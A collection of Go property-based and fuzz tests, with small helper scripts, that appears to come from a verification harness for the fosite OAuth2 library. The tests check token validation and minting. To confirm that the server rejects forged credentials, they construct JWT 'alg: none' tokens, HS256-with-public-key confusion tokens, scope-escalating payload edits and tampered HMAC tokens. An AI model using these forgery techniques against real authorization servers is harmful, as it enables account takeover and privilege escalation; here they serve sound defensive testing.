			h.Violate(rt, "C06/hmac/signature-accessor", "Signature(%q) = %q", tok, validator.Signature(tok))
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// End to end: every credential kind and mutants of it at the place it is consumed.

func TestC06_EndToEnd(t *testing.T) {
	h.SetProperty("C06")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		oldSecret := []byte("old-global-secret-0123456789-0123456789-xyz")
		newSecret := []byte("new-global-secret-0123456789-0123456789-abc")
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		rtLife := rapid.SampledFrom([]int{0, 0, -1, 3600}).Draw(rt, "refreshLifespan")
		entropy := rapid.SampledFrom([]int{0, 0, 33, 48}).Draw(rt, "tokenEntropy")
		w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.GlobalSecret = oldSecret
			c.TokenEntropy = entropy
			c.RefreshTokenLifespan = time.Duration(rtLife) * time.Second
			if rtLife < 0 {
				c.RefreshTokenLifespan = -1
			}
		}})
		cl := stdClient("A", false)
		cl.Secret = w.HashSecret("sA")
		w.AddClient(cl, "sA")
		// a second world with a foreign secret mints look-alike tokens
		fw := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) { c.GlobalSecret = []byte("foreign-secret-0123456789-0123456789-0123") }})
		fcl := stdClient("A", false)
		fcl.Secret = fw.HashSecret("sA")
		fw.AddClient(fcl, "sA")

		kind := rapid.SampledFrom([]string{"code", "access", "refresh", "device"}).Draw(rt, "kind")
		obtain := func(w *h.World) (string, string) { // returns the credential and a second independent one
			get := func() string {
				switch kind {
				case "code":
					ar := w.Authorize(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a offline"}}, h.Consent{})
					return ar.Code
				case "device":
					dr := w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"a"}}, w.BasicFor("A"), h.Consent{})
					if dr.DeviceCode != "" {
						w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("u")})
					}
					return dr.DeviceCode
				default:
					w.AddUser("peter", "pw")
					tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"a"}}, w.BasicFor("A"), h.TokenOpts{})
					if kind == "access" {
						return tr.Access
					}
					return tr.Refresh
				}
			}
			return get(), get()
		}
		cred, other := obtain(w)
		foreign, _ := obtain(fw)
		if cred == "" || other == "" || foreign == "" {
			rt.Fatalf("VERIF-INFRA: could not obtain %s credentials", kind)
		}
		// secret rotation by the operator
		rotation := rapid.SampledFrom([]string{"none", "rotated-kept", "rotated-dropped"}).Draw(rt, "rotation")
		switch rotation {
		case "rotated-kept":
			w.Cfg.GlobalSecret = newSecret
			w.Cfg.RotatedGlobalSecrets = [][]byte{[]byte("another-old-secret-0123456789-0123456789"), oldSecret}
		case "rotated-dropped":
			w.Cfg.GlobalSecret = newSecret
			w.Cfg.RotatedGlobalSecrets = [][]byte{[]byte("another-old-secret-0123456789-0123456789")}
		}
		prefix := ""
		body := cred
		if strings.HasPrefix(cred, "ory_") && len(cred) > 7 && cred[6] == '_' {
			prefix, body = cred[:7], cred[7:]
		}
		obody := other[len(prefix):]
		kp, sp, _ := strings.Cut(body, ".")
		okp, osp, _ := strings.Cut(obody, ".")
		edit := rapid.SampledFrom([]string{"none", "none", "other-random-with-stored-signature", "stored-random-with-other-signature", "flip-random", "flip-signature", "truncate", "extend", "foreign-secret", "no-prefix", "wrong-prefix", "double-prefix", "upper-prefix", "missing-dot", "extra-part", "empty", "junk-after-random", "junk-after-signature"}).Draw(rt, "edit")
		mut := cred
		flip := func(s string) string {
			i := rapid.IntRange(0, len(s)-1).Draw(rt, "pos")
			return flipChar(s, i)
		}
		switch edit {
		case "other-random-with-stored-signature":
			mut = prefix + okp + "." + sp
		case "stored-random-with-other-signature":
			mut = prefix + kp + "." + osp
		case "flip-random":
			mut = prefix + flip(kp) + "." + sp
		case "flip-signature":
			mut = prefix + kp + "." + flip(sp)
		case "truncate":
			mut = cred[:len(cred)-rapid.IntRange(1, 8).Draw(rt, "cut")]
		case "extend":
			mut = cred + rapid.SampledFrom([]string{"A", "AA", "=", ".x"}).Draw(rt, "suffix")
		case "foreign-secret":
			mut = foreign
		case "no-prefix":
			mut = body
		case "wrong-prefix":
			mut = rapid.SampledFrom([]string{"ory_at_", "ory_rt_", "ory_ac_", "ory_dc_", "ory_xx_"}).Draw(rt, "pfx") + body
		case "double-prefix":
			mut = prefix + prefix + body
		case "upper-prefix":
			mut = strings.ToUpper(prefix) + body
		case "missing-dot":
			mut = prefix + kp + sp
		case "extra-part":
			mut = cred + "." + sp
		case "empty":
			mut = ""
		case "junk-after-random":
			mut = prefix + kp + junkGen.Draw(rt, "junk") + "." + sp
		case "junk-after-signature":
			mut = cred + junkGen.Draw(rt, "junk")
		}
		if mut == cred {
			edit = "none"
		}
		if edit == "flip-random" {
			// a flipped character that only touches unused trailing bits decodes to the same bytes
			mk, _, _ := strings.Cut(mut[len(prefix):], ".")
			a, e1 := base64.RawURLEncoding.DecodeString(mk)
			b, e2 := base64.RawURLEncoding.DecodeString(kp)
			if e1 == nil && e2 == nil && bytes.Equal(a, b) {
				h.Label("e2e/non-canonical-same-bytes")
				return
			}
		}
		// present it where it is consumed
		accepted := false
		detail := ""
		switch kind {
		case "code":
			tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {mut}, "redirect_uri": {redirectURI}}, w.BasicFor("A"), h.TokenOpts{})
			accepted, detail = tr.OK(), tr.Err.String()
		case "device":
			tr := w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {mut}}, w.BasicFor("A"), h.TokenOpts{})
			accepted, detail = tr.OK(), tr.Err.String()
		case "access":
			where := rapid.SampledFrom([]string{"introspect", "introspect-endpoint", "bearer"}).Draw(rt, "where")
			switch where {
			case "introspect":
				d := w.IntrospectDirect(mut, fosite.AccessToken)
				accepted, detail = d.Active, d.Err.String()
			case "introspect-endpoint":
				r := w.IntrospectEndpoint(url.Values{"token": {mut}}, w.BasicFor("A"))
				accepted, detail = r.Active, r.Err.String()
			default:
				r := w.IntrospectEndpoint(url.Values{"token": {other}}, h.Auth{Bearer: mut})
				accepted, detail = r.Err.OK(), r.Err.String()
				if mut == "" {
					accepted = false
				}
			}
		case "refresh":
			if rapid.Bool().Draw(rt, "viaIntrospection") {
				d := w.IntrospectDirect(mut, fosite.RefreshToken)
				accepted, detail = d.Active, d.Err.String()
			} else {
				tr := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {mut}}, w.BasicFor("A"), h.TokenOpts{})
				accepted, detail = tr.OK(), tr.Err.String()
			}
		}
		// reference: accepted only if the MAC verifies under a configured secret AND the signature string is the stored one
		mustAccept := (edit == "none") && rotation != "rotated-dropped"
		mustReject := true
		switch edit {
		case "none":
			mustReject = rotation == "rotated-dropped"
		case "no-prefix":
			// trimming the prefix is optional: the un-prefixed token authenticates and names the stored signature
			mustReject = rotation == "rotated-dropped"
			if kind == "device" {
				mustReject = rotation == "rotated-dropped"
			}
		case "flip-random", "flip-signature", "truncate", "extend":
			mustReject = mut != cred
		}
		nontrivial := edit != "none" || rotation != "none"
		h.Case(fmt.Sprintf("e2e/%s/%s/%s/%s", kind, edit, rotation, store), nontrivial, func() any {
			return map[string]any{"layer": "end-to-end", "kind": kind, "edit": edit, "rotation": rotation, "store": store, "accepted": accepted, "answer": detail}
		})
		h.Label("e2e/kind=" + kind)
		h.Label("e2e/edit=" + edit)
		if mustAccept && !accepted {
			h.Violate(rt, "C06/e2e/rejects-valid", "%s minted by this server (rotation=%s) was refused: %s", kind, rotation, detail)
		}
		if mustReject && accepted {
			h.Violate(rt, "C06/e2e/accepts-invalid", "%s with edit %q (rotation=%s) was accepted at the endpoint that consumes it\n original=%q\n presented=%q", kind, edit, rotation, cred, mut)
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// JWT access tokens: stateful (record looked up by signature) and stateless introspection.

func TestC06_JWT(t *testing.T) {
	h.SetProperty("C06")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		w := h.NewWorld(h.Spec{JWTAccess: true, RefreshScopes: []string{}})
		cl := stdClient("A", false)
		cl.Secret = w.HashSecret("sA")
		w.AddClient(cl, "sA")
		w.AddUser("peter", "pw")
		mint := func() string {
			tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"a"}}, w.BasicFor("A"), h.TokenOpts{Session: h.NewSess("")})
			return tr.Access
		}
		tok, tok2 := mint(), mint()
		if strings.Count(tok, ".") != 2 || tok2 == "" {
			rt.Fatalf("VERIF-INFRA: no JWT access token: %q", tok)
		}
		// freshly minted tokens never repeat: neither across grants nor along one grant's refresh chain, even when
		// everything happens within the same second (deterministic signature: equal claims would give equal tokens)
		{
			seenTok, seenJTI := map[string]string{}, map[string]string{}
			note := func(what, at string) {
				if at == "" {
					return
				}
				if prev, dup := seenTok[at]; dup {
					h.Violate(rt, "C06/mint/repeat", "JWT access token of %s equals the one of %s", what, prev)
				}
				seenTok[at] = what
				if _, cl, err := h.DecodeJWT(at); err == nil {
					if j, _ := cl["jti"].(string); j != "" {
						if prev, dup := seenJTI[j]; dup {
							h.Violate(rt, "C06/mint/repeat", "JWT access token of %s carries the jti of %s (%s)", what, prev, j)
						}
						seenJTI[j] = what
					}
				}
			}
			note("grant 1", tok)
			note("grant 2", tok2)
			sess := h.NewSess("")
			tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, w.BasicFor("A"), h.TokenOpts{Session: sess})
			note("grant 3", tr.Access)
			rtk := tr.Refresh
			for i := 1; i <= rapid.IntRange(1, 3).Draw(rt, "refreshes") && rtk != ""; i++ {
				if rapid.IntRange(0, 3).Draw(rt, "advanceBetween") == 0 {
					h.Advance(time.Second)
				}
				r2 := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {rtk}}, w.BasicFor("A"), h.TokenOpts{})
				note(fmt.Sprintf("refresh %d of grant 3", i), r2.Access)
				rtk = r2.Refresh
			}
			// the same session object handed to a second grant by the integrator
			tr4 := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"a"}}, w.BasicFor("A"), h.TokenOpts{Session: sess})
			note("grant 4 (session object of grant 3 reused)", tr4.Access)
			h.Label("jwt/mint-chain")
		}
		// stateless validator over the same key
		currentKey := 0
		keyGetter := func(context.Context) (interface{}, error) { return h.RSAKey(currentKey), nil }
		stateless := &foauth2.StatelessJWTValidator{Signer: &jwt.DefaultSigner{GetPrivateKey: keyGetter}, Config: w.Cfg}
		_ = compose.OAuth2StatelessJWTIntrospectionFactory
		p := strings.Split(tok, ".")
		p2 := strings.Split(tok2, ".")
		hd, cl0, _ := h.DecodeJWT(tok)
		enc := func(m map[string]interface{}) string {
			b, _ := jsonMarshal(m)
			return base64.RawURLEncoding.EncodeToString(b)
		}
		cp := func(m map[string]interface{}) map[string]interface{} {
			n := map[string]interface{}{}
			for k, v := range m {
				n[k] = v
			}
			return n
		}
		edit := rapid.SampledFrom([]string{"none", "none", "alg-none-no-sig", "alg-none-with-sig", "alg-none-caps", "hs256-pubkey", "hs256-empty-key", "other-rsa-key", "payload-edit", "header-edit", "sig-of-other-token", "flip-sig", "strip-sig", "json-serialization", "ec-key-same-alg-name", "exp-extended", "four-parts", "payload-of-other-token", "key-rotated-away", "odd-header-member", "odd-header-member"}).Draw(rt, "edit")
		mut := tok
		claims := cp(cl0)
		header := cp(hd)
		switch edit {
		case "alg-none-no-sig":
			header["alg"] = "none"
			mut = enc(header) + "." + p[1] + "."
		case "alg-none-with-sig":
			header["alg"] = "none"
			mut = enc(header) + "." + p[1] + "." + p[2]
		case "alg-none-caps":
			header["alg"] = rapid.SampledFrom([]string{"None", "NONE", "nOnE"}).Draw(rt, "none")
			mut = enc(header) + "." + p[1] + "." + p[2]
		case "hs256-pubkey":
			pub := h.RSAKey(0).PublicKey
			key := pub.N.Bytes()
			s, err := h.SignJWT(key, "HS256", "", claims, nil)
			if err == nil {
				mut = s
			}
		case "hs256-empty-key":
			header["alg"] = "HS256"
			m := hmac.New(sha256.New, []byte{})
			signing := enc(header) + "." + p[1]
			m.Write([]byte(signing))
			mut = signing + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
		case "other-rsa-key":
			mut = h.MustSignJWT(h.RSAKey(1), "RS256", "", claims)
		case "payload-edit":
			claims["scp"] = []string{"a", "admin"}
			claims["sub"] = "someone-else"
			mut = p[0] + "." + enc(claims) + "." + p[2]
		case "exp-extended":
			claims["exp"] = float64(h.Now().Unix() + 10*365*24*3600)
			mut = p[0] + "." + enc(claims) + "." + p[2]
		case "header-edit":
			header["kid"] = "evil"
			mut = enc(header) + "." + p[1] + "." + p[2]
		case "sig-of-other-token":
			mut = p[0] + "." + p[1] + "." + p2[2]
		case "payload-of-other-token":
			mut = p[0] + "." + p2[1] + "." + p[2]
		case "flip-sig":
			mut = p[0] + "." + p[1] + "." + flipChar(p[2], rapid.IntRange(0, len(p[2])-2).Draw(rt, "pos"))
		case "strip-sig":
			mut = p[0] + "." + p[1] + "."
		case "json-serialization":
			mut = fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, p[0], p[1], p[2])
		case "ec-key-same-alg-name":
			s, err := h.SignJWT(h.ECKey("P-256"), "ES256", "", claims, nil)
			if err == nil {
				mut = s
			}
		case "four-parts":
			mut = tok + "." + p[2]
		case "odd-header-member":
			// header members of unexpected types make JOSE libraries fail *before* they look at the signature; such a
			// failure is a rejection like any other. The payload is edited, so the signature can not be valid.
			odd := rapid.SampledFrom([]struct {
				k string
				v interface{}
			}{{"crit", 1}, {"crit", "exp"}, {"crit", []interface{}{}}, {"crit", []interface{}{"exp"}}, {"crit", map[string]interface{}{"a": 1}}, {"jwk", 5}, {"kid", 7}, {"kid", []interface{}{"a"}},
				{"zip", "DEF"}, {"b64", false}, {"typ", 3}, {"x5c", "nope"}, {"nonce", 1}, {"jku", 1}}).Draw(rt, "oddMember")
			header[odd.k] = odd.v
			header["alg"] = rapid.SampledFrom([]string{"RS256", "RS256", "none", "HS256"}).Draw(rt, "oddAlg")
			claims["sub"] = "someone-else"
			claims["scp"] = []string{"a", "admin"}
			sigPart := p[2]
			if rapid.Bool().Draw(rt, "garbageSignature") {
				sigPart = base64.RawURLEncoding.EncodeToString([]byte("not a signature at all"))
			}
			mut = enc(header) + "." + enc(claims) + "." + sigPart
		}
		if edit == "json-serialization" {
			// another serialisation of the same header, payload and signature bytes: acceptance is not a forgery
			h.Label("jwt/json-serialization-unspecified")
			return
		}
		same := mut == tok || (edit == "payload-of-other-token" && p[1] == p2[1])
		// history: the untampered token may have been presented (and accepted) before the tampered one arrives
		warm := rapid.Bool().Draw(rt, "genuinePresentedFirst")
		if warm {
			d0 := w.IntrospectDirect(tok, fosite.AccessToken)
			_, e0 := stateless.IntrospectToken(context.Background(), tok, fosite.AccessToken, fosite.NewAccessRequest(h.NewSess("")), nil)
			if !d0.Active || e0 != nil {
				h.Violate(rt, "C06/jwt/rejects-valid", "untampered JWT access token refused: stateful=%v stateless=%v", d0.Err, e0)
			}
			h.Label("jwt/genuine-presented-first")
		}
		if edit == "key-rotated-away" {
			// the operator replaces the signing key: a token signed under the key the server no longer has must not
			// be accepted by the validator that only knows the current key (the storage-backed path keeps its own key)
			currentKey = 1
			_, serr := stateless.IntrospectToken(context.Background(), tok, fosite.AccessToken, fosite.NewAccessRequest(h.NewSess("")), nil)
			h.Case(fmt.Sprintf("jwt/%s/warm=%v", edit, warm), true, func() any {
				return map[string]any{"layer": "jwt", "edit": edit, "genuine_presented_first": warm, "stateless_accepted": serr == nil}
			})
			h.Label("jwt/edit=" + edit)
			if serr == nil {
				h.Violate(rt, "C06/jwt/accepts-invalid/stateless", "JWT access token signed under a key the validator no longer has was accepted (genuine presented before the key change: %v)", warm)
			}
			return
		}
		d := w.IntrospectDirect(mut, fosite.AccessToken)
		ar := fosite.NewAccessRequest(h.NewSess(""))
		_, serr := stateless.IntrospectToken(context.Background(), mut, fosite.AccessToken, ar, nil)
		h.Case(fmt.Sprintf("jwt/%s/warm=%v", edit, warm), edit != "none", func() any {
			return map[string]any{"layer": "jwt", "edit": edit, "genuine_presented_first": warm, "stateful_active": d.Active, "stateless_accepted": serr == nil}
		})
		h.Label("jwt/edit=" + edit)
		if same {
			if !d.Active || serr != nil {
				h.Violate(rt, "C06/jwt/rejects-valid", "untampered JWT access token refused: stateful=%v stateless=%v", d.Err, serr)
			}
			return
		}
		if d.Active {
			h.Violate(rt, "C06/jwt/accepts-invalid/stateful", "JWT access token with edit %q reported active by the storage-backed introspector\n presented=%q", edit, mut)
		}
		if serr == nil {
			h.Violate(rt, "C06/jwt/accepts-invalid/stateless", "JWT access token with edit %q accepted by the stateless JWT introspector\n presented=%q", edit, mut)
		}
		// a refused forgery must not poison the untampered token
		d1 := w.IntrospectDirect(tok, fosite.AccessToken)
		_, e1 := stateless.IntrospectToken(context.Background(), tok, fosite.AccessToken, fosite.NewAccessRequest(h.NewSess("")), nil)
		if !d1.Active || e1 != nil {
			h.Violate(rt, "C06/jwt/rejects-valid", "untampered JWT access token refused after a forgery (%s) was presented: stateful=%v stateless=%v", edit, d1.Err, e1)
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// Minting: values never repeat and carry the configured entropy.

func TestC06_Minting(t *testing.T) {
	h.SetProperty("C06")
	selfTest(t)
	n := 4000
	if Tier() == "thorough" {
		n = 20000
	}
	si, _ := shardInfo()
	kinds := []string{"access", "code", "refresh", "device", "request_uri", "user_code"}
	kind := kinds[si%len(kinds)]
	entropy := []int{0, 32, 48}[(si/len(kinds))%3]
	w := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
		c.TokenEntropy = entropy
		c.UserCodeLength = 12
	}})
	cl := stdClient("A", false)
	cl.Secret = w.HashSecret("sA")
	w.AddClient(cl, "sA")
	w.AddUser("peter", "pw")
	seen := map[string]bool{}
	var decoded [][]byte
	ctx := context.Background()
	for i := 0; i < n; i++ {
		var v string
		switch kind {
		case "access":
			v, _, _ = w.HMAC.GenerateAccessToken(ctx, nil)
		case "refresh":
			v, _, _ = w.HMAC.GenerateRefreshToken(ctx, nil)
		case "code":
			v, _, _ = w.HMAC.GenerateAuthorizeCode(ctx, nil)
		case "device":
			v, _, _ = w.DevStr.GenerateDeviceCode(ctx)
		case "user_code":
			v, _, _ = w.DevStr.GenerateUserCode(ctx)
		case "request_uri":
			if i >= n/8 { // goes through the whole endpoint: fewer samples
				continue
			}
			pr := w.PAR(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}}, w.BasicFor("A"))
			v = pr.RequestURI
		}
		if v == "" {
			t.Fatalf("VERIF-INFRA: empty %s", kind)
		}
		if seen[v] {
			h.Violate(t, "C06/mint/repeat", "%s value repeated after %d samples: %q", kind, i, v)
		}
		seen[v] = true
		var rnd string
		switch kind {
		case "request_uri":
			rnd = strings.TrimPrefix(v, "urn:ietf:params:oauth:request_uri:")
		case "user_code":
			continue
		default:
			b := v
			if strings.HasPrefix(v, "ory_") && len(v) > 7 && v[6] == '_' {
				b = v[7:]
			}
			rnd, _, _ = strings.Cut(b, ".")
		}
		d, err := base64.RawURLEncoding.DecodeString(rnd)
		if err != nil {
			h.Violate(t, "C06/mint/format", "%s random part does not decode: %q", kind, v)
		}
		want := entropy
		if want < 32 || kind == "request_uri" {
			want = 32
		}
		if len(d) != want {
			h.Violate(t, "C06/mint/entropy", "%s random part has %d bytes, want %d (configured entropy %d)", kind, len(d), want, entropy)
		}
		decoded = append(decoded, d)
	}
	// no byte position is constant
	if len(decoded) > 100 {
		for pos := 0; pos < len(decoded[0]); pos++ {
			constant := true
			for _, d := range decoded[1:] {
				if d[pos] != decoded[0][pos] {
					constant = false
					break
				}
			}
			if constant {
				h.Violate(t, "C06/mint/constant-byte", "%s: byte %d of the random part is constant over %d samples", kind, pos, len(decoded))
			}
		}
		// crude bit balance: every bit position is set in 35..65 percent of samples
		nb := len(decoded[0]) * 8
		for b := 0; b < nb; b++ {
			ones := 0
			for _, d := range decoded {
				if d[b/8]&(1<<(b%8)) != 0 {
					ones++
				}
			}
			if f := float64(ones) / float64(len(decoded)); f < 0.35 || f > 0.65 {
				h.Violate(t, "C06/mint/biased-bit", "%s: bit %d of the random part is set in %.1f%% of %d samples", kind, b, 100*f, len(decoded))
			}
		}
	}
	if kind == "user_code" {
		for v := range seen {
			if len([]rune(v)) != 12 {
				h.Violate(t, "C06/mint/user-code-length", "user code %q does not have the configured length 12", v)
			}
		}
	}
	h.CaseN(len(seen))
	h.Case(fmt.Sprintf("mint/%s/entropy=%d", kind, entropy), true, func() any {
		return map[string]any{"layer": "minting", "kind": kind, "entropy": entropy, "samples": len(seen), "all_distinct": true}
	})
	h.LabelN("mint/"+kind, len(seen))
	h.MarkCompleted()
}

var _ = bytes.Equal

// FuzzC06HMACValidate: coverage-guided search for a string that the HMAC
// layer accepts although the reference does not (or vice versa) under a fixed
// two-secret configuration; seeded with hostile constants and valid tokens.

// TestC06_ConcurrentMinting: "never repeat" also holds when several goroutines mint at the same time through
// different strategy instances (access / refresh tokens and codes, device and user codes, request URIs through the
// PAR endpoint, which draws its random bytes without any strategy lock).
func TestC06_ConcurrentMinting(t *testing.T) {
	h.SetProperty("C06")
	selfTest(t)
	per := 20000
	if Tier() == "thorough" {
		per = 150000
	}
	w := h.NewWorld(h.Spec{RefreshScopes: []string{}})
	cl := stdClient("A", false)
	cl.Secret = w.HashSecret("sA")
	w.AddClient(cl, "sA")
	ctx := context.Background()
	// every "own-strategy" goroutine has a strategy instance (and therefore a lock) of its own, like several providers
	// in one process; "raw" draws random bytes directly, as the PAR handler does
	kinds := []string{"access", "refresh", "code", "device", "own-strategy", "own-strategy", "own-strategy", "own-strategy", "raw", "raw", "request_uri"}
	out := make([][]string, len(kinds))
	var wg sync.WaitGroup
	for g, kind := range kinds {
		wg.Add(1)
		go func(g int, kind string) {
			defer wg.Done()
			n := per
			if kind == "request_uri" {
				n = per / 20 // goes through the whole endpoint
			}
			own := compose.NewOAuth2HMACStrategy(w.Cfg)
			for i := 0; i < n; i++ {
				var v string
				switch kind {
				case "access":
					v, _, _ = w.HMAC.GenerateAccessToken(ctx, nil)
				case "refresh":
					v, _, _ = w.HMAC.GenerateRefreshToken(ctx, nil)
				case "code":
					v, _, _ = w.HMAC.GenerateAuthorizeCode(ctx, nil)
				case "device":
					v, _, _ = w.DevStr.GenerateDeviceCode(ctx)
				case "own-strategy":
					v, _, _ = own.GenerateAccessToken(ctx, nil)
				case "raw":
					if b, err := fhmac.RandomBytes(32); err == nil {
						v = base64.RawURLEncoding.EncodeToString(b)
					}
				case "request_uri":
					v = w.PAR(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}}, w.BasicFor("A")).RequestURI
				}
				if v != "" {
					out[g] = append(out[g], v)
				}
			}
		}(g, kind)
	}
	wg.Wait()
	seen := map[string]string{}
	total := 0
	for g, l := range out {
		for _, v := range l {
			total++
			// compare the random part: two values with equal random bytes have equal signatures and storage keys
			b := v
			if strings.HasPrefix(v, "ory_") && len(v) > 7 && v[6] == '_' {
				b = v[7:]
			}
			b = strings.TrimPrefix(b, "urn:ietf:params:oauth:request_uri:")
			rnd, _, _ := strings.Cut(b, ".")
			if prev, dup := seen[rnd]; dup {
				h.Violate(t, "C06/mint/repeat", "random part %q minted twice while %d goroutines minted concurrently (%s and %s)", rnd, len(kinds), prev, kinds[g])
			}
			seen[rnd] = kinds[g]
		}
	}
	if total < per {
		t.Fatalf("VERIF-INFRA: only %d values minted", total)
	}
	h.CaseN(total)
	h.Case("C06/concurrent-minting", true, func() any {
		return map[string]any{"layer": "minting", "goroutines": len(kinds), "kinds": kinds, "values": total}
	})
	h.MarkCompleted()
}

func FuzzC06HMACValidate(f *testing.F) {
	c := hmacCfg{global: []byte("fuzz-global-secret-0123456789-0123456789"), rotated: [][]byte{[]byte("fuzz-rotated-secret-0123456789-012345678")}}
	ctx := context.Background()
	v := &fhmac.HMACStrategy{Config: c.config()}
	for i := 0; i < 3; i++ {
		tok, _, _ := v.Generate(ctx)
		f.Add(tok)
	}
	old := &fhmac.HMACStrategy{Config: hmacCfg{global: c.rotated[0]}.config()}
	tok, _, _ := old.Generate(ctx)
	f.Add(tok)
	for _, s := range []string{"", ".", "a.", ".a", "a.b", "a.b.c", "====.====", "AAAA.AAAA", "\n.\n", "ory_at_a.b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := v.Validate(ctx, s)
		want := refHMACValid(c, s)
		if want != h.Unspecified && (got == nil) != (want == h.Yes) {
			h.Violate(t, "C06/hmac/fuzz-disagreement", "Validate(%q): err=%v, reference says valid=%v", s, got, want)
		}
	})
}
