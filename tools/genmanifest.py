#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (kept in one place so that it stays valid)."""
import json, sys

CLAIMED = {
 "C12": dict(level="exploration",
   technique="property-based testing (rapid) + exhaustive enumeration of the scope/audience pair domain against README-derived reference matchers; flow confinement by generated requests; native fuzzing of the strategies in the thorough tier",
   text="Generated-input search against independent reference matchers written from the README wording: exhaustive over all single-entry scope pairs up to 4/5 segments of {a,b,ab,*,''} and over an audience component table, random multi-entry haystacks, and every flow driven end-to-end with requests around the registration. Exhaustive only for the stated finite domain; elsewhere 'held on everything explored'.",
   note="Trusted: refspec (the documentation made executable), rapid, the harness world. Empty tail segments under a trailing wildcard and host/scheme letter case are treated as unspecified.",
   ref="DESIGN.md 4 C12"),
}
NOT_APPLICABLE = {}

def main():
    checks = []
    for pid in sorted(CLAIMED):
        c = CLAIMED[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": f"./check run {pid} --tier quick",
            "thorough_cmd": f"./check run {pid} --tier thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./check replay {pid} {{path}}",
            "engine": "verifharness",
            "level_claimed": {"category": c["level"], "text": c["text"], "design_ref": c["ref"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    allp = [json.loads(l)["id"] for l in open("/verif/properties.jsonl")]
    na = []
    for pid in allp:
        if pid not in CLAIMED:
            na.append({"property_id": pid, "reason": NOT_APPLICABLE.get(pid, "check not built yet in this revision (property-based check planned, see DESIGN.md 4)")})
    m = {
        "version": 1,
        "setup_cmd": "./check setup",
        "hooks": {
            "guard": "none: no source hook is committed to /repo; the only instrumentation is a build-time `go test -overlay` (virtual clock) regenerated from /repo's working tree by harness/cmd/instr on every run",
            "enable": "go test -overlay <scratch>/overlay.json (done by ./check run); without the overlay the repository builds and tests exactly as upstream",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go test -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{"name": "verifharness", "path": "/verif/harness", "serves_properties": sorted(CLAIMED), "kind_free_text": "Go module: in-process fosite server driven through its public API, rapid property tests / state machines, exhaustive enumerations, native fuzz targets, -race stress; driver cmd/check shards, merges evidence, handles known findings"}],
        "checks": checks,
        "not_applicable": na,
        "notes": "Exit codes: 0 held, 1 VIOLATION line printed, 2 infrastructure problem (never a violation). VERIF_SEED selects the rapid PRNG values of every shard. Known findings: /verif/known_findings.json.",
    }
    json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
    print("claimed:", sorted(CLAIMED), "not claimed:", [x["property_id"] for x in na])

main()
