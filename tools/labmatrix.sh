#!/bin/bash
# usage: [VERIF_SEED=n] [P=4] tools/labmatrix.sh [mutants|seeded|all]  — every seeded change against the quick check of
# its property, each in its own scratch copy (tools/lab.sh), P at a time. One line per change; expected exit=1.
what=${1:-all}; P=${P:-4}
list() {
  if [ "$what" != seeded ]; then for f in /verif/mutants/m*.diff; do b=$(basename $f .diff); n=${b:1:2}; echo "$b $f C$n"; done; fi
  if [ "$what" != mutants ]; then for d in /verif/seeded/C??-?; do b=$(basename $d); echo "$b $d/patch.diff ${b%%-*}"; done; fi
}
list | xargs -P $P -L 1 bash -c 'echo "$0: $(/verif/tools/lab.sh $0 $1 $2 2>&1 | grep -v WARNING | head -2 | tr "\n" " " | cut -c1-230)"'
