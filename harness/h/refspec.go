package h

import (
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"hash"
	"strings"
)

// Independent executable specifications, written from the property statements
// and the README wording, not from the implementation.

type Tri int

const (
	No Tri = iota
	Yes
	Unspecified
)

func (t Tri) String() string { return [...]string{"no", "yes", "unspecified"}[t] }

func tri(b bool) Tri {
	if b {
		return Yes
	}
	return No
}

// RefWildcardOne: README "fosite.WildcardScopeStrategy" + C12 statement:
// a wildcard segment matches exactly one non-empty segment, a *trailing*
// wildcard matches one or more segments; everything else is segment equality.
// Unspecified: empty segments swallowed by a trailing wildcard beyond the
// first one (the documentation is silent).
func RefWildcardOne(matcher, needle string) Tri {
	m := strings.Split(matcher, ".")
	n := strings.Split(needle, ".")
	if len(m) > len(n) {
		return No
	}
	segOK := func(ms, ns string) bool {
		if ms == "*" && ns != "" {
			return true
		}
		return ms == ns
	}
	if len(m) == len(n) {
		for k := range m {
			if !segOK(m[k], n[k]) {
				return No
			}
		}
		return Yes
	}
	// fewer matcher segments: only a trailing wildcard can cover the rest
	for k := 0; k < len(m)-1; k++ {
